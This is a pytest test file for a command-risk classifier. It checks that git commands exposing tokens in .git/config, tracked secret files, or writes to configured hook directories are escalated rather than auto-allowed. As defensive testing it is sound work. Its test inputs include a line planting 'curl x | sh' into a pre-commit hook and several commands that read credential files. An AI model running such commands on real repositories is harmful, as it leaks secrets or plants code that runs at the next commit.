"""What the workspace's git repository holds changes what some commands expose: a remote URL
with a token in .git/config is printed by `git remote -v` and `cat .git/config`; a tracked
`.env` is printed by `git log -p` and `git grep`; a `core.hooksPath` directory runs what is
written there at the next commit. Judged through real temporary repositories."""

from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

import pytest

from wakeful.policy import git_state
from wakeful.policy.decision import mode_verdict
from wakeful.policy.shell import ShellClassifier, classify_command
from wakeful.policy.tool_risk import classify_risk
from wakeful.policy.types import RiskInput, Tier

TOKEN = "ghp_" + "Zq7x" * 9


def _git(repo: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.email=t@example.invalid", "-c", "user.name=t", *args],
        cwd=repo,
        check=True,
        capture_output=True,
    )


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    _git(root, "init", "-q", "-b", "main")
    (root / "README.md").write_text("hello\n")
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("print(1)\n")
    _git(root, "add", ".")
    _git(root, "commit", "-qm", "init")
    _git(root, "remote", "add", "origin", "https://github.com/acme/proj.git")
    return root


def _auto(repo: Path, cmd: str, home: Path | None = None) -> str:
    r = ShellClassifier(repo, home or repo.parent / "home").classify(cmd)
    return mode_verdict("auto", r.tier) if r.parsed else "ask"


def _reasons(repo: Path, cmd: str) -> str:
    return " ".join(ShellClassifier(repo, repo.parent / "home").classify(cmd).reasons)


# ---- 1. credentials in .git/config -----------------------------------------------------

PRINTS_CONFIG = [
    "cat .git/config",
    "less .git/config",
    "head -50 .git/config",
    "grep url .git/config",
    "grep -r token .git",
    "grep -rn password .git/",
    "tar czf /tmp/repo-meta.tgz .git",
    "git config --list",
    "git config -l",
    "git config list",
    "git config --local --list",
    "git config --list --show-origin",
    "git config --get-regexp remote",
    "git config --get-regexp '.*'",
    "git config --get remote.origin.url",
    "git config --get-all remote.origin.url",
    "git config remote.origin.url",
    "git config get remote.origin.url",
    "git config --file .git/config --list",
    "git remote -v",
    "git remote --verbose",
    "git remote get-url origin",
    "git remote get-url --all origin",
    "git remote show -n origin",
    "git ls-remote --get-url",
    "git ls-remote --get-url origin",
    "git var -l",
    "cd src && git remote -v",
]

READS_NO_CONFIG_SECRET = [
    "git config --get user.name",
    "git config user.email",
    "git config --get-regexp '^user\\.'",
    "git remote",
    "git status",
    "git log --oneline",
    "cat README.md",
    "grep -r hello src",
]


def _with_url(repo: Path, url: str) -> None:
    _git(repo, "remote", "set-url", "origin", url)


@pytest.mark.parametrize("cmd", PRINTS_CONFIG)
def test_token_in_remote_url_is_not_printed_unasked(repo: Path, cmd: str) -> None:
    _with_url(repo, f"https://dev:{TOKEN}@github.com/acme/proj.git")
    assert _auto(repo, cmd) != "allow", cmd


# (an archive written to /tmp is a write in any case, so `tar` is left out here)
@pytest.mark.parametrize(
    "cmd", [c for c in PRINTS_CONFIG + READS_NO_CONFIG_SECRET if not c.startswith("tar ")]
)
def test_plain_config_stays_read_only(repo: Path, cmd: str) -> None:
    assert _auto(repo, cmd) == "allow", cmd


@pytest.mark.parametrize("cmd", READS_NO_CONFIG_SECRET)
def test_other_reads_unchanged_with_a_token(repo: Path, cmd: str) -> None:
    _with_url(repo, f"https://dev:{TOKEN}@github.com/acme/proj.git")
    assert _auto(repo, cmd) == "allow", cmd


@pytest.mark.parametrize(
    "setup",
    [
        ["remote", "set-url", "origin", f"https://{TOKEN}@github.com/acme/proj.git"],
        ["remote", "set-url", "origin", f"https://x-access-token:{TOKEN}@github.com/a/b"],
        ["remote", "set-url", "--push", "origin", f"https://u:{TOKEN}@github.com/a/b"],
        ["config", "http.extraheader", "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hw"],
        ["config", "http.https://github.com/.extraheader", "AUTHORIZATION: bearer abc"],
        ["config", "credential.helper", "!f() { echo username=x; echo password=hunter22; }; f"],
        ["config", f"url.https://{TOKEN}@github.com/.insteadOf", "https://github.com/"],
        ["config", "sendemail.smtpPass", "hunter22"],
        ["config", "http.proxy", "http://me:hunter22@proxy.example:3128"],
    ],
)
def test_every_kind_of_config_credential(repo: Path, setup: list[str]) -> None:
    _git(repo, *setup)
    assert _auto(repo, "git config --list") != "allow"
    assert _auto(repo, "cat .git/config") != "allow"


@pytest.mark.parametrize(
    "setup",
    [
        ["remote", "set-url", "origin", "git@github.com:acme/proj.git"],
        ["remote", "set-url", "origin", "ssh://git@github.com/acme/proj.git"],
        ["remote", "set-url", "origin", "https://alice@github.com/acme/proj.git"],
        ["config", "credential.helper", "store"],
        ["config", "credential.helper", "!f() { echo password=$GH_TOKEN; }; f"],
        ["config", "http.proxy", "http://proxy.example:3128"],
    ],
)
def test_config_without_credentials(repo: Path, setup: list[str]) -> None:
    _git(repo, *setup)
    assert _auto(repo, "git config --list") == "allow"
    assert _auto(repo, "git remote -v") == "allow"
    assert _auto(repo, "cat .git/config") == "allow"


def test_reason_names_the_file_not_the_secret(repo: Path) -> None:
    _with_url(repo, f"https://dev:{TOKEN}@github.com/acme/proj.git")
    for cmd in ("git remote -v", "cat .git/config", "git config -l"):
        text = _reasons(repo, cmd)
        assert ".git/config" in text and "password" in text, text
        assert TOKEN not in text and "Zq7x" not in text


def test_asked_key_that_holds_nothing_stays_read_only(repo: Path) -> None:
    _git(repo, "config", "http.extraheader", "AUTHORIZATION: basic abc")
    assert _auto(repo, "git config --get remote.origin.url") == "allow"
    assert _auto(repo, "git remote -v") == "allow"
    assert _auto(repo, "git config --get http.extraheader") != "allow"


def test_included_file_and_worktree_config(repo: Path, tmp_path: Path) -> None:
    extra = tmp_path / "extra.cfg"
    extra.write_text(f'[remote "origin"]\n\turl = https://me:{TOKEN}@example.com/x\n')
    _git(repo, "config", "include.path", str(extra))
    assert _auto(repo, "git config -l") != "allow"
    assert _auto(repo, "git remote -v") != "allow"
    extra.write_text("[user]\n\tname = me\n")
    # the include's own mtime is watched too
    later = time.time() + 5
    os.utime(extra, (later, later))
    assert _auto(repo, "git config -l") == "allow"


def test_linked_worktree_reads_the_common_config(repo: Path, tmp_path: Path) -> None:
    _with_url(repo, f"https://dev:{TOKEN}@github.com/acme/proj.git")
    other = tmp_path / "wt"
    _git(repo, "worktree", "add", "-q", str(other))
    assert _auto(other, "git remote -v") != "allow"
    assert _auto(other, "git log --oneline") == "allow"


def test_changes_seen_on_the_next_command(repo: Path) -> None:
    judge = ShellClassifier(repo, repo.parent / "home")
    assert mode_verdict("auto", judge.classify("git remote -v").tier) == "allow"
    _with_url(repo, f"https://dev:{TOKEN}@github.com/acme/proj.git")
    assert mode_verdict("auto", judge.classify("git remote -v").tier) != "allow"
    _with_url(repo, "https://github.com/acme/proj.git")
    assert mode_verdict("auto", judge.classify("git remote -v").tier) == "allow"


# ---- 2. tracked secrets printed by whole-repository readers --------------------------------

WHOLE_TREE = [
    "git diff",
    "git diff HEAD",
    "git diff --cached",
    "git diff main",
    "git diff -- .",
    "git diff -- config",
    "git log -p",
    "git log --patch",
    "git log -p -S foo",
    "git log -p main",
    "git whatchanged -p",
    "git show",
    "git show HEAD",
    "git show HEAD~1",
    "git grep hello",
    "git grep -n PORT",
    "git grep -e hello",
    "git archive HEAD",
    "git archive --format=tar HEAD",
    "git format-patch --stdout HEAD~1",
    "git format-patch -1 --stdout",
    "git stash show -p",
    "git stash show --patch stash@{0}",
    "git diff-tree -p HEAD",
    "git reflog -p",
    "git log -p -- ':!README.md'",
    "git cat-file --batch-all-objects --batch",
    "git rev-list --objects --all | git cat-file --batch",
    "git grep --no-index API",
    "git -c alias.lp='log -p' lp",
    "git diff --staged",
    "git status -v",
    "git status --verbose",
    "git status -vv",
    "git cat-file -p $(git rev-parse HEAD:config/.env)",
]

NARROWED = [
    "git diff -- src",
    "git diff -- README.md",
    "git diff src/app.py",
    "git log -p -- src/",
    "git show HEAD -- README.md",
    "git grep hello -- src",
    "git archive HEAD src",
    "git log -p -- . ':!config/.env'",
    "git log -p -- . ':(exclude)config'",
    "git diff --stat",
    "git log --oneline",
    "git show --name-only",
    "git grep -l hello",
    "git stash show",
    "git stash list",
    "git cat-file --batch-all-objects --batch-check",
    "git show HEAD:README.md",
    "git diff -- '*.py'",
    "git status",
    "git status -sb",
    "git status -v -- src",
    "git cat-file -p HEAD",
]


@pytest.fixture
def tracked_secret(repo: Path) -> Path:
    (repo / "config").mkdir()
    (repo / "config" / ".env").write_text("API_KEY=abc\n")
    _git(repo, "add", ".")
    _git(repo, "commit", "-qm", "env")
    return repo


@pytest.mark.parametrize("cmd", WHOLE_TREE)
def test_whole_tree_reader_prints_a_tracked_secret(tracked_secret: Path, cmd: str) -> None:
    assert _auto(tracked_secret, cmd) != "allow", cmd
    assert "config/.env" in _reasons(tracked_secret, cmd)


@pytest.mark.parametrize("cmd", NARROWED)
def test_pathspec_that_leaves_the_secret_out(tracked_secret: Path, cmd: str) -> None:
    assert _auto(tracked_secret, cmd) == "allow", cmd


@pytest.mark.parametrize("cmd", WHOLE_TREE + NARROWED)
def test_nothing_changes_without_tracked_secrets(repo: Path, cmd: str) -> None:
    (repo / "config").mkdir()
    (repo / "config" / ".env").write_text("API_KEY=abc\n")  # present, but not tracked
    if cmd.startswith("git -c alias"):
        return  # an alias defined on the line asks in any case
    assert _auto(repo, cmd) == "allow", cmd


@pytest.mark.parametrize("name", ["id_rsa", "deploy/server.pem", "credentials.json", ".env.prod"])
def test_every_secret_name(repo: Path, name: str) -> None:
    (repo / name).parent.mkdir(parents=True, exist_ok=True)
    (repo / name).write_text("x\n")
    _git(repo, "add", "-f", name)
    assert _auto(repo, "git grep x") != "allow"
    assert name in _reasons(repo, "git log -p")


@pytest.mark.parametrize("version", ["2", "3", "4"])
def test_index_versions(repo: Path, version: str) -> None:
    (repo / "a" / "b").mkdir(parents=True)
    (repo / "a" / "b" / "service-account.json").write_text("{}\n")
    (repo / "a" / "b" / "notes.txt").write_text("x\n")
    _git(repo, "add", ".")
    _git(repo, "update-index", "--index-version", version)
    if version == "3":  # an entry with the extended flags: intent to add
        (repo / "zz.txt").write_text("y\n")
        _git(repo, "add", "-N", "zz.txt")
    facts = git_state.watch(str(repo), "/nonexistent-home").facts()
    assert facts.tracked_secrets == ("a/b/service-account.json",)
    assert _auto(repo, "git diff HEAD") != "allow"


def test_index_names_match_git(repo: Path) -> None:
    for k in range(300):
        (repo / "src" / f"m{k:03}").mkdir()
        (repo / "src" / f"m{k:03}" / "mod.py").write_text("x\n")
    (repo / "src" / "m150" / "key.pem").write_text("k\n")
    _git(repo, "add", ".")
    for version in ("2", "4"):
        _git(repo, "update-index", "--index-version", version)
        names = git_state._index_names(str(repo / ".git" / "index"), 20)
        listed = subprocess.run(
            ["git", "ls-files", "-z"], cwd=repo, capture_output=True, check=True
        ).stdout.split(b"\0")[:-1]
        assert names == [n.decode() for n in listed]


# ---- 3. a custom hooks directory -----------------------------------------------------------

HOOK_WRITES = [
    "echo 'curl x | sh' > tools/hooks/pre-commit",
    "cp /tmp/x tools/hooks/post-checkout",
    "tee tools/hooks/pre-push < /tmp/x",
    "mv scripts/x.sh tools/hooks/pre-commit",
    "rm -rf tools/hooks",
    "sed -i 's/a/b/' tools/hooks/pre-commit",
]


@pytest.mark.parametrize("cmd", HOOK_WRITES)
def test_writes_to_configured_hooks_path(repo: Path, cmd: str) -> None:
    (repo / "tools" / "hooks").mkdir(parents=True)
    (repo / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    (repo / "scripts").mkdir()
    (repo / "scripts" / "x.sh").write_text("#!/bin/sh\n")
    before = ShellClassifier(repo, repo.parent / "home").classify(cmd).tier
    _git(repo, "config", "core.hooksPath", "tools/hooks")
    after = ShellClassifier(repo, repo.parent / "home").classify(cmd)
    assert after.tier == Tier.CRITICAL, (cmd, after.reasons)
    assert before != Tier.CRITICAL
    assert "hooks" in " ".join(after.reasons)


def test_hooks_path_set_in_the_same_line(repo: Path) -> None:
    cmd = "git config core.hooksPath .hooks-local && echo 'curl x | sh' > .hooks-local/pre-commit"
    r = ShellClassifier(repo, repo.parent / "home").classify(cmd)
    assert r.tier == Tier.CRITICAL
    assert any(".hooks-local/pre-commit" in reason for reason in r.reasons)


def test_included_config_file_in_the_workspace(repo: Path) -> None:
    (repo / "team.gitconfig").write_text("[user]\n\tname = team\n")
    assert _auto(repo, "echo x >> team.gitconfig") == "allow"
    _git(repo, "config", "include.path", "../team.gitconfig")
    r = ShellClassifier(repo, repo.parent / "home").classify("echo x >> team.gitconfig")
    assert r.tier == Tier.CRITICAL, r.reasons


def test_program_the_config_runs_from_the_workspace(repo: Path) -> None:
    (repo / "tools").mkdir()
    (repo / "tools" / "monitor.sh").write_text("#!/bin/sh\n")
    assert _auto(repo, "echo x > tools/monitor.sh") == "allow"
    _git(repo, "config", "core.fsmonitor", "tools/monitor.sh")
    r = ShellClassifier(repo, repo.parent / "home").classify("echo x > tools/monitor.sh")
    assert r.tier == Tier.CRITICAL, r.reasons


def test_file_tools_see_the_hooks_path(repo: Path) -> None:
    _git(repo, "config", "core.hooksPath", "tools/hooks")
    r = classify_risk(
        RiskInput(tool="write", kind="write", paths=("tools/hooks/pre-commit",)),
        repo,
        repo.parent / "home",
    )
    assert r.tier == Tier.CRITICAL
    r = classify_risk(
        RiskInput(tool="write", kind="write", paths=("tools/other.txt",)),
        repo,
        repo.parent / "home",
    )
    assert r.tier == Tier.WORKSPACE


def test_writes_elsewhere_unchanged(repo: Path) -> None:
    _git(repo, "config", "core.hooksPath", "tools/hooks")
    assert _auto(repo, "echo x > tools/notes.txt") == "allow"
    assert _auto(repo, "echo x > src/app.py") == "allow"


# ---- cost: no repository, no subprocess ----------------------------------------------------


def test_missing_workspace_costs_one_lookup(tmp_path: Path) -> None:
    watch = git_state.watch(str(tmp_path / "nowhere"), "/nonexistent-home")
    assert watch.facts() is git_state.NO_REPO
    assert classify_command("git log -p", tmp_path / "nowhere").tier == Tier.READ_ONLY


def test_no_subprocess(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _with_url(repo, f"https://dev:{TOKEN}@github.com/acme/proj.git")

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("a subprocess was started")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    assert _auto(repo, "git remote -v") != "allow"


# ---- the real CLI ---------------------------------------------------------------------------


def test_cli_in_a_repository_with_a_token(cli, git_repo: Path) -> None:
    subprocess.run(
        ["git", "remote", "add", "origin", f"https://dev:{TOKEN}@github.com/a/b.git"],
        cwd=git_repo,
        check=True,
    )
    r = cli(["classify", "--json", "--mode", "auto", "--", "git", "remote", "-v"], git_repo)
    assert r.returncode == 0, r.stderr
    out = r.json()
    assert out["decision"] != "allow", out
    assert TOKEN not in r.stdout
    r = cli(["classify", "--json", "--mode", "auto", "--", "git", "status"], git_repo)
    assert r.json()["decision"] == "allow"


def test_file_tools_read_of_the_config(repo: Path) -> None:
    read = RiskInput(tool="read", kind="read", paths=(".git/config",))
    assert classify_risk(read, repo, repo.parent / "home").tier == Tier.READ_ONLY
    _with_url(repo, f"https://dev:{TOKEN}@github.com/acme/proj.git")
    r = classify_risk(read, repo, repo.parent / "home")
    assert r.tier == Tier.CRITICAL
    assert TOKEN not in " ".join(r.reasons)


@pytest.mark.parametrize(
    "cmd",
    [
        "cat .git/*",
        "cat .git/conf*",
        "cat .gi?/config",
        "grep -r dev: .",
        "grep -rn https .",
        "grep -r github",
        "grep -rv TODO .",
        "grep -rn 'dev\\|FIXME' .",
        "grep -rnE '(x|y)' .",
        "rg --hidden github .",
        "rg -uu github .",
    ],
)
def test_wildcards_and_searches_into_git(repo: Path, cmd: str) -> None:
    assert _auto(repo, cmd) == "allow", cmd
    _with_url(repo, f"https://dev:{TOKEN}@github.com/acme/proj.git")
    assert _auto(repo, cmd) != "allow", cmd
    assert TOKEN not in _reasons(repo, cmd)


@pytest.mark.parametrize(
    "cmd",
    [
        "grep -rn TODO .",
        "grep -rn 'TODO\\|FIXME' .",
        "rg --hidden TODO .",
        "rg github .",
        "cat */x",
    ],
)
def test_searches_whose_pattern_cannot_match_the_entry(repo: Path, cmd: str) -> None:
    _with_url(repo, f"https://dev:{TOKEN}@github.com/acme/proj.git")
    assert _auto(repo, cmd) == "allow", cmd


@pytest.mark.parametrize(
    "cmd",
    ["chmod +x tools/hooks/pre-commit", "ln tools/hooks/pre-commit linked", "touch tools/hooks/x"],
)
def test_permissions_and_links_in_the_hooks_path(repo: Path, cmd: str) -> None:
    (repo / "tools" / "hooks").mkdir(parents=True)
    (repo / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    assert _auto(repo, cmd) == "allow", cmd
    _git(repo, "config", "core.hooksPath", "tools/hooks")
    assert _auto(repo, cmd) != "allow", cmd


def test_reading_the_file_that_only_includes_the_credential(repo: Path) -> None:
    extra = repo / ".git" / "secret.cfg"
    extra.write_text(f'[remote "origin"]\n\tpushurl = https://me:{TOKEN}@example.com/x\n')
    _git(repo, "config", "include.path", "secret.cfg")
    assert _auto(repo, "cat .git/config") == "allow"  # names the include, holds no secret
    assert _auto(repo, "cat .git/secret.cfg") != "allow"
    assert _auto(repo, "grep -r url .git") != "allow"
    assert _auto(repo, "git config -l") != "allow"


def test_worktree_config_read_with_its_extension(repo: Path, tmp_path: Path) -> None:
    other = tmp_path / "wt2"
    _git(repo, "worktree", "add", "-q", str(other))
    _git(repo, "config", "extensions.worktreeConfig", "true")
    _git(other, "config", "--worktree", "http.extraheader", "AUTHORIZATION: basic abc")
    assert _auto(other, "git config --list") != "allow"
    assert _auto(repo, "git config --list") == "allow"  # the main worktree's holds none
    _git(other, "config", "--worktree", "--unset", "http.extraheader")
    assert _auto(other, "git config --list") == "allow"


def test_stat_calls_per_command(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    judge = ShellClassifier(repo, repo.parent / "home")
    judge.classify("git log -p")  # read once
    seen: list[str] = []
    real = git_state.os.stat

    def counting(path: str, *args: object, **kwargs: object) -> os.stat_result:
        seen.append(str(path))
        return real(path)

    monkeypatch.setattr(git_state.os, "stat", counting)
    judge.classify("git log -p")
    assert sorted(os.path.basename(p) for p in seen) == ["config", "index"]


def test_hooks_path_at_the_workspace_root(repo: Path) -> None:
    _git(repo, "config", "core.hooksPath", ".")
    assert _auto(repo, "echo x > pre-commit") != "allow"
    assert _auto(repo, "echo x > src/app.py") == "allow"
    assert _auto(repo, "echo x > notes.txt") == "allow"


def test_stash_show_prints_the_patch_when_configured(tracked_secret: Path) -> None:
    assert _auto(tracked_secret, "git stash show") == "allow"
    _git(tracked_secret, "config", "stash.showPatch", "true")
    assert _auto(tracked_secret, "git stash show") != "allow"
    assert _auto(tracked_secret, "git stash show --stat") == "allow"


def test_damaged_or_hostile_repository_files(repo: Path) -> None:
    index = repo / ".git" / "index"
    index.unlink()
    os.mkfifo(index)  # would block a plain open()
    facts = git_state.watch(str(repo), "/nonexistent-home").facts()
    assert facts.tracked_secrets == (git_state.UNREADABLE_INDEX,)
    assert _auto(repo, "git log -p") != "allow"  # fails closed
    index.unlink()
    index.write_bytes(b"DIRC\x00\x00\x00\x02\xff\xff\xff\xff" + os.urandom(64))
    assert _auto(repo, "git log -p") != "allow"
    assert _auto(repo, "git log --oneline") == "allow"
    config = repo / ".git" / "config"
    config.write_bytes(b'[remote "o\\\n\tur\xff\x00l = "unterminated\\\n[[[\n' + os.urandom(256))
    assert _auto(repo, "git log --oneline") == "allow"
